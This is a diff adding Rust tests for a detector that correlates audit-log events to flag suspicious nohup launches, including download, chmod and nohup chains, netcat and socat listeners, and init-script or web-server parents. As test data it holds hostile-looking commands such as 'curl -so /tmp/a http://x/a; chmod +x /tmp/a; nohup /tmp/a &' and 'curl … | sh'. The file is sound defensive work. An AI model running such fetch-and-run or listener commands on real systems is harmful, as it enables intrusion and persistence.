@@ -1,0 +1,516 @@
+//! Correlation, both sides: the multi-event indicators fire on the sequences they
+//! describe and not on look-alikes, state stays bounded and what is dropped is
+//! counted.
+
+use std::sync::Arc;
+
+use chrono::{DateTime, TimeZone, Utc};
+
+use super::*;
+use crate::detectors::nohup::NohupDetector;
+use crate::detectors::{Detector, Findings};
+use crate::event::{NetworkActivity, Platform, Position, Provenance};
+use crate::finding::{Finding, Severity};
+use crate::sources::auditd::join_argv;
+
+fn words(s: &[&str]) -> Vec<String> {
+    s.iter().map(|w| w.to_string()).collect()
+}
+
+fn t(secs: i64) -> DateTime<Utc> {
+    Utc.timestamp_opt(1_795_838_965 + secs, 0).unwrap()
+}
+
+fn exec(secs: i64, pid: u32, ppid: u32, argv: &[&str]) -> ProcessStart {
+    let mut p = ProcessStart::new(
+        Platform::Unix,
+        Provenance {
+            path: Arc::from("audit.log"),
+            position: Position::Line(1),
+            format: "auditd",
+        },
+    );
+    p.time = Some(t(secs));
+    p.host = "h".into();
+    p.pid = Some(pid);
+    p.ppid = Some(ppid);
+    p.argv = words(argv);
+    p.command_line = join_argv(&p.argv);
+    p.cwd = Some("/root".into());
+    p.user = Some("0".into());
+    p
+}
+
+fn net(secs: i64, pid: u32, kind: NetworkKind) -> Event {
+    Event::Network(NetworkActivity {
+        time: Some(t(secs)),
+        host: "h".into(),
+        pid: Some(pid),
+        process_guid: None,
+        image: None,
+        kind,
+        local: Some("127.0.0.1:14444".into()),
+        remote: None,
+        provenance: Provenance {
+            path: Arc::from("audit.log"),
+            position: Position::Line(2),
+            format: "auditd",
+        },
+    })
+}
+
+fn run(events: Vec<Event>) -> Vec<Finding> {
+    let mut d = NohupDetector::new(&Rules::embedded()).unwrap();
+    let mut out = Findings::default();
+    for e in &events {
+        d.observe(e, &mut out);
+    }
+    out.drain()
+}
+
+fn has(f: &Finding, name: &str) -> bool {
+    f.indicators.iter().any(|i| i == name)
+}
+
+// ---------------------------------------------------------------------------------
+// command syntax
+// ---------------------------------------------------------------------------------
+
+#[test]
+fn chmod_modes_and_operands() {
+    for m in [
+        "+x",
+        "u+x",
+        "a+rx",
+        "755",
+        "0755",
+        "0700",
+        "u=rwx,go=rx",
+        "ug+rwX",
+        "+rwxs",
+    ] {
+        assert!(mode_grants_exec(m), "{m}");
+    }
+    for m in ["644", "-x", "a-x", "u=rw", "go-w", "0600", "", "+r", "x"] {
+        assert!(!mode_grants_exec(m), "{m}");
+    }
+    assert_eq!(
+        chmod_targets(&words(&["chmod", "+x", "/tmp/a", "b"])),
+        ["/tmp/a", "b"]
+    );
+    assert_eq!(chmod_targets(&words(&["chmod", "-R", "755", "d"])), ["d"]);
+    assert_eq!(chmod_targets(&words(&["chmod", "--", "+x", "f"])), ["f"]);
+    assert!(chmod_targets(&words(&["chmod", "-x", "f"])).is_empty());
+    assert!(chmod_targets(&words(&["chmod", "644", "f"])).is_empty());
+    assert!(chmod_targets(&words(&["chmod", "--reference=/bin/ls", "f"])).is_empty());
+}
+
+#[test]
+fn install_destinations() {
+    assert_eq!(
+        install_targets(&words(&["install", "-m", "755", "a", "/tmp/b"])),
+        ["/tmp/b", "/tmp/b/a"]
+    );
+    assert_eq!(
+        install_targets(&words(&["install", "-t", "/tmp/d", "x", "y"])),
+        ["/tmp/d/x", "/tmp/d/y"]
+    );
+    assert!(install_targets(&words(&["install", "-m644", "a", "/tmp/b"])).is_empty());
+    assert!(install_targets(&words(&["install", "-d", "/tmp/dir"])).is_empty());
+}
+
+#[test]
+fn download_outputs() {
+    let rules: CommandRules = Rules::embedded().section("commands").unwrap();
+    let outputs = |text: &str| -> Vec<String> {
+        command::from_shell_text(text, &rules)
+            .iter()
+            .filter(|i| matches!(i.program(), "curl" | "wget"))
+            .flat_map(download_targets)
+            .collect()
+    };
+    assert_eq!(outputs("curl -sSLo /tmp/x http://e/a"), ["/tmp/x"]);
+    assert_eq!(outputs("curl -o/tmp/x http://e/a"), ["/tmp/x"]);
+    assert_eq!(outputs("curl --output /tmp/x http://e/a"), ["/tmp/x"]);
+    assert_eq!(outputs("curl -O http://e/p/agent?x=1"), ["agent"]);
+    assert_eq!(outputs("curl -s http://e/a > /tmp/y"), ["/tmp/y"]);
+    assert_eq!(outputs("wget -q http://e/dl/kworker"), ["kworker"]);
+    assert_eq!(outputs("wget -O /dev/shm/k http://e/a"), ["/dev/shm/k"]);
+    assert_eq!(
+        outputs("wget --output-document=/tmp/k http://e/a"),
+        ["/tmp/k"]
+    );
+    assert_eq!(outputs("wget -P /var/tmp http://e/a.sh"), ["/var/tmp/a.sh"]);
+    assert!(outputs("curl -s http://e/a | sh").is_empty());
+    assert!(outputs("wget -qO- http://e/a | sh").is_empty());
+    assert!(outputs("curl http://e/").is_empty());
+}
+
+// ---------------------------------------------------------------------------------
+// the indicators
+// ---------------------------------------------------------------------------------
+
+#[test]
+fn seed_test_2_chmod_then_nohup() {
+    let f = run(vec![
+        Event::Process(exec(
+            0,
+            100,
+            10,
+            &["chmod", "+x", "/tmp/df00tech_test_payload.sh"],
+        )),
+        Event::Process(exec(
+            1,
+            101,
+            10,
+            &["nohup", "/tmp/df00tech_test_payload.sh"],
+        )),
+    ]);
+    assert_eq!(f.len(), 1);
+    assert!(has(&f[0], "payload_made_executable") && has(&f[0], "temp_dir_payload"));
+    assert!(f[0].severity >= Severity::High, "{:?}", f[0]);
+    // Relative paths meet through the working directories.
+    let mut chmod = exec(0, 100, 10, &["chmod", "755", "x.sh"]);
+    chmod.cwd = Some("/var/tmp/w".into());
+    let mut nohup = exec(1, 101, 10, &["nohup", "./x.sh"]);
+    nohup.cwd = Some("/var/tmp/w".into());
+    assert!(has(
+        &run(vec![Event::Process(chmod), Event::Process(nohup)])[0],
+        "payload_made_executable"
+    ));
+}
+
+#[test]
+fn preparation_must_match_the_path_the_host_and_the_window() {
+    let cases = [
+        // another file
+        (exec(0, 100, 10, &["chmod", "+x", "/tmp/other"]), 1),
+        // too long ago (prepare_window_secs = 600)
+        (exec(0, 100, 10, &["chmod", "+x", "/tmp/p"]), 3_600),
+        // read-only
+        (exec(0, 100, 10, &["chmod", "644", "/tmp/p"]), 1),
+    ];
+    for (prep, later) in cases {
+        let f = run(vec![
+            Event::Process(prep),
+            Event::Process(exec(later, 101, 10, &["nohup", "/tmp/p"])),
+        ]);
+        assert!(!has(&f[0], "payload_made_executable"), "{:?}", f[0]);
+    }
+    let mut elsewhere = exec(0, 100, 10, &["chmod", "+x", "/tmp/p"]);
+    elsewhere.host = "other-host".into();
+    let f = run(vec![
+        Event::Process(elsewhere),
+        Event::Process(exec(1, 101, 10, &["nohup", "/tmp/p"])),
+    ]);
+    assert!(!has(&f[0], "payload_made_executable"));
+    // A download to the path, or a chmod inside the same shell string.
+    let f = run(vec![
+        Event::Process(exec(
+            0,
+            100,
+            10,
+            &["wget", "-q", "-O", "/dev/shm/k", "http://198.51.100.7/k"],
+        )),
+        Event::Process(exec(2, 101, 10, &["nohup", "/dev/shm/k"])),
+    ]);
+    assert!(has(&f[0], "payload_made_executable"));
+    let f = run(vec![Event::Process(exec(
+        0,
+        100,
+        10,
+        &[
+            "sh",
+            "-c",
+            "curl -so /tmp/a http://x/a; chmod +x /tmp/a; nohup /tmp/a &",
+        ],
+    ))]);
+    assert!(has(&f[0], "payload_made_executable"));
+}
+
+#[test]
+fn seed_test_1_listener_after_the_nohup_amends_the_finding() {
+    // nohup (pid 14116) execs nc in the same pid; nc binds and listens.
+    let f = run(vec![
+        Event::Process(exec(
+            0,
+            14116,
+            14115,
+            &["nohup", "nc", "-lvp", "14444", "-s", "127.0.0.1"],
+        )),
+        Event::Process(exec(
+            0,
+            14116,
+            14115,
+            &["nc", "-lvp", "14444", "-s", "127.0.0.1"],
+        )),
+        net(0, 14116, NetworkKind::Bind),
+        net(0, 14116, NetworkKind::Listen),
+    ]);
+    assert_eq!(
+        f.len(),
+        1,
+        "one finding, the socket evidence attached: {f:?}"
+    );
+    assert!(has(&f[0], "suspicious_net_tool") && has(&f[0], "net_listener"));
+    assert_eq!(
+        f[0].indicators
+            .iter()
+            .filter(|i| *i == "net_listener")
+            .count(),
+        1
+    );
+    assert!(f[0].severity >= Severity::High);
+    // A child of the nohup'd program listening counts; an unrelated process does not,
+    // and neither does an outbound connection or a listener long after.
+    let f = run(vec![
+        Event::Process(exec(0, 200, 1, &["nohup", "sh", "/opt/x/run.sh"])),
+        Event::Process(exec(1, 201, 200, &["socat", "tcp-listen:80", "-"])),
+        net(1, 201, NetworkKind::Listen),
+    ]);
+    assert!(has(&f[0], "net_listener"));
+    for other in [
+        net(1, 999, NetworkKind::Listen),
+        net(1, 200, NetworkKind::Connect),
+        net(7_200, 200, NetworkKind::Listen),
+    ] {
+        let f = run(vec![
+            Event::Process(exec(0, 200, 1, &["nohup", "sh", "/opt/x/run.sh"])),
+            other,
+        ]);
+        assert!(!has(&f[0], "net_listener"), "{:?}", f[0]);
+    }
+}
+
+#[test]
+fn init_script_parent_unc3886_pattern() {
+    // /etc/init.d/localnet (run by the kernel as `/bin/sh /etc/init.d/localnet start`)
+    // forks a child that execs `nohup /bin/support`.
+    let f = run(vec![
+        Event::Process(exec(0, 1, 0, &["/sbin/init"])),
+        Event::Process(exec(
+            1,
+            300,
+            1,
+            &["/bin/sh", "/etc/init.d/localnet", "start"],
+        )),
+        Event::Process(exec(1, 301, 300, &["nohup", "/bin/support"])),
+    ]);
+    assert_eq!(f.len(), 1);
+    assert!(has(&f[0], "init_script_parent"), "{:?}", f[0]);
+    assert_eq!(f[0].ppid, Some(300));
+    // Two generations up (the script runs `sh -c`), and run-parts of a cron dir.
+    let f = run(vec![
+        Event::Process(exec(1, 300, 1, &["/bin/bash", "/etc/rc.local"])),
+        Event::Process(exec(
+            1,
+            302,
+            300,
+            &["sh", "-c", "nohup /usr/local/bin/agent &"],
+        )),
+    ]);
+    assert!(has(&f[0], "init_script_parent"));
+    let f = run(vec![
+        Event::Process(exec(
+            1,
+            300,
+            1,
+            &["run-parts", "--report", "/etc/cron.daily"],
+        )),
+        Event::Process(exec(1, 303, 300, &["nohup", "/usr/local/bin/agent"])),
+    ]);
+    assert!(has(&f[0], "init_script_parent"));
+    // Not init scripts: an interactive shell, an editor with the script open.
+    for parent in [
+        &["-bash"][..],
+        &["vim", "/etc/init.d/localnet"],
+        &["/bin/sh", "/home/u/etc/init.d/x"],
+    ] {
+        let f = run(vec![
+            Event::Process(exec(1, 300, 1, parent)),
+            Event::Process(exec(1, 301, 300, &["nohup", "/bin/support"])),
+        ]);
+        assert!(!has(&f[0], "init_script_parent"), "{parent:?}");
+    }
+    // Alone it stays low (the seed's known false positive: vendor init scripts).
+    let f = run(vec![
+        Event::Process(exec(
+            1,
+            300,
+            1,
+            &["/bin/sh", "/etc/init.d/vendor-agent", "start"],
+        )),
+        Event::Process(exec(1, 301, 300, &["nohup", "/opt/vendor/agent"])),
+    ]);
+    assert_eq!(f[0].indicators, ["init_script_parent"]);
+    assert_eq!(f[0].severity, Severity::Low);
+}
+
+#[test]
+fn the_detector_tells_who_the_parent_was() {
+    let mut d = NohupDetector::new(&Rules::embedded()).unwrap();
+    let mut out = Findings::default();
+    let mut script = exec(1, 300, 1, &["/bin/sh", "/etc/init.d/localnet", "start"]);
+    script.exe = Some("/usr/bin/dash".into());
+    for p in [script, exec(1, 301, 300, &["nohup", "/bin/support"])] {
+        d.observe(&Event::Process(p), &mut out);
+    }
+    let ids: Vec<FindingId> = out.ids().collect();
+    assert_eq!(ids.len(), 1);
+    assert_eq!(
+        d.finding_parent(ids[0]),
+        Some(ParentInfo {
+            pid: Some(300),
+            exe: Some("/usr/bin/dash".into()),
+            command_line: Some("/bin/sh /etc/init.d/localnet start".into()),
+        })
+    );
+    out.drain();
+    d.observe(
+        &Event::Process(exec(2, 302, 1, &["nohup", "/opt/x"])),
+        &mut out,
+    );
+    let later: Vec<FindingId> = out.ids().collect();
+    assert_ne!(later, ids, "ids stay unique across drains");
+    assert_eq!(d.finding_parent(later[0]), None, "pid 1 was never seen");
+}
+
+#[test]
+fn sysmon_parent_fields_count_too() {
+    let mut p = exec(1, 301, 300, &["nohup", "/bin/support"]);
+    p.parent_exe = Some("/usr/bin/dash".into());
+    p.parent_command_line = Some("/bin/sh /etc/init.d/localnet start".into());
+    p.parent_process_guid = Some("{g-300}".into());
+    let f = run(vec![Event::Process(p)]);
+    assert!(has(&f[0], "init_script_parent"));
+}
+
+#[test]
+fn web_service_parent_by_account_or_process() {
+    let mut www = exec(1, 401, 400, &["sh", "-c", "nohup /tmp/.k &"]);
+    www.user = Some("33".into());
+    let f = run(vec![Event::Process(www)]);
+    assert!(has(&f[0], "web_service_parent"));
+    assert!(f[0].severity >= Severity::High);
+    let f = run(vec![
+        Event::Process(exec(0, 400, 1, &["/usr/sbin/php-fpm8.2", "--nodaemonize"])),
+        Event::Process(exec(1, 401, 400, &["nohup", "/opt/app/worker"])),
+    ]);
+    assert!(has(&f[0], "web_service_parent"));
+    let f = run(vec![
+        Event::Process(exec(
+            0,
+            400,
+            1,
+            &[
+                "/usr/bin/java",
+                "-cp",
+                "x",
+                "org.apache.catalina.startup.Bootstrap",
+                "start",
+            ],
+        )),
+        Event::Process(exec(1, 401, 400, &["nohup", "/opt/app/worker"])),
+    ]);
+    assert!(
+        has(&f[0], "web_service_parent"),
+        "Tomcat is `java … Bootstrap`"
+    );
+    let mut named = exec(1, 401, 400, &["nohup", "/opt/app/worker"]);
+    named.user = Some("www-data".into());
+    assert!(has(
+        &run(vec![Event::Process(named)])[0],
+        "web_service_parent"
+    ));
+    // An ordinary user and an ordinary parent.
+    let mut alice = exec(1, 401, 400, &["nohup", "/opt/app/worker"]);
+    alice.user = Some("1000".into());
+    assert!(!has(
+        &run(vec![
+            Event::Process(exec(0, 400, 1, &["bash"])),
+            Event::Process(alice)
+        ])[0],
+        "web_service_parent"
+    ));
+}
+
+#[test]
+fn relaunched_after_it_was_killed() {
+    let f = run(vec![
+        Event::Process(exec(0, 500, 1, &["nohup", "/tmp/m"])),
+        Event::Process(exec(600, 700, 1, &["nohup", "/tmp/m"])),
+    ]);
+    assert_eq!(f.len(), 2);
+    assert!(!has(&f[0], "relaunched") && has(&f[1], "relaunched"));
+    // Not a relaunch: the same launch seen twice (sh -c string, then the nohup exec),
+    // another program, or a day later.
+    let f = run(vec![
+        Event::Process(exec(0, 500, 1, &["sh", "-c", "nohup /tmp/m &"])),
+        Event::Process(exec(0, 501, 500, &["nohup", "/tmp/m"])),
+    ]);
+    assert_eq!(f.len(), 1);
+    assert!(!has(&f[0], "relaunched"));
+    for (argv, later) in [
+        (&["nohup", "/tmp/n"][..], 10),
+        (&["nohup", "/tmp/m"], 90_000),
+    ] {
+        let f = run(vec![
+            Event::Process(exec(0, 500, 1, &["nohup", "/tmp/m"])),
+            Event::Process(exec(later, 700, 1, argv)),
+        ]);
+        assert!(!has(&f[1], "relaunched"), "{argv:?} after {later}s");
+    }
+    // Bare names: the whole command identifies the program.
+    let f = run(vec![
+        Event::Process(exec(0, 500, 1, &["nohup", "bash", "-c", "x"])),
+        Event::Process(exec(10, 700, 1, &["nohup", "bash", "-c", "y"])),
+    ]);
+    assert!(!has(&f[1], "relaunched"));
+}
+
+// ---------------------------------------------------------------------------------
+// bounds
+// ---------------------------------------------------------------------------------
+
+#[test]
+fn bounded_map_forgets_by_count_and_by_time() {
+    let mut m: Bounded<u32, u32> = Bounded::new(3);
+    for i in 0..10 {
+        m.insert(i, i, i64::from(i));
+    }
+    assert_eq!(m.len(), 3);
+    assert_eq!(m.dropped, 7);
+    assert!(m.get(&9).is_some() && m.get(&6).is_none());
+    // Replacing a key many times does not grow the queue without bound.
+    for i in 0..10_000 {
+        m.insert(7, i, 100);
+    }
+    assert!(m.order.len() <= 2 * 3 + 64 + 1);
+    m.expire(100);
+    assert_eq!(m.len(), 1, "8 and 9 expired, 7 was refreshed");
+    m.expire(101);
+    assert_eq!(m.len(), 0);
+}
+
+#[test]
+fn state_stays_bounded_and_drops_are_counted() {
+    let rules = Rules::embedded();
+    let mut c = Correlator::new(&rules, vec!["curl".into()]).unwrap();
+    let max = c.rules.max_processes;
+    for i in 0..(max as u32 + 5_000) {
+        let p = exec(0, 10_000 + i, 1, &["chmod", "+x", &format!("/tmp/f{i}")]);
+        c.observe(&Event::Process(p.clone()));
+        c.record_process(&p);
+    }
+    assert!(c.processes.len() <= max);
+    assert!(c.prepared.len() <= c.rules.max_prepared_paths);
+    let s = c.stats();
+    assert_eq!(s.processes_dropped, 5_000);
+    assert!(s.preparations_dropped > 0);
+    assert_eq!(s.describe().len(), 2);
+    // Time moves on: everything ages out, and that is not "dropped".
+    c.observe(&Event::Process(exec(90_000, 1, 0, &["true"])));
+    assert_eq!(c.processes.len(), 0);
+    assert_eq!(c.prepared.len(), 0);
+    assert_eq!(c.stats(), s);
+}
